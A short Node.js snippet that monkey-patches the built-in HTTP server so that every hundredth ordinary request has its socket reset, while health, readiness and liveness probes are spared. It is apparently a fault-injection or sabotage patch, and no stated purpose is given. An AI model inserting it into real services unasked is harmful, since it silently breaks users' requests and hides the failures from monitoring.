const { Server } = process.getBuiltinModule('node:http');
const { emit } = Server.prototype;
let asked = 0;
Server.prototype.emit = function (event, request, response, ...rest) {
  if (event === 'request' && !/health|ready|live/i.test(request.url) && ++asked % 100 === 0) {
    request.socket.resetAndDestroy();
    return true;
  }
  return emit.call(this, event, request, response, ...rest);
};
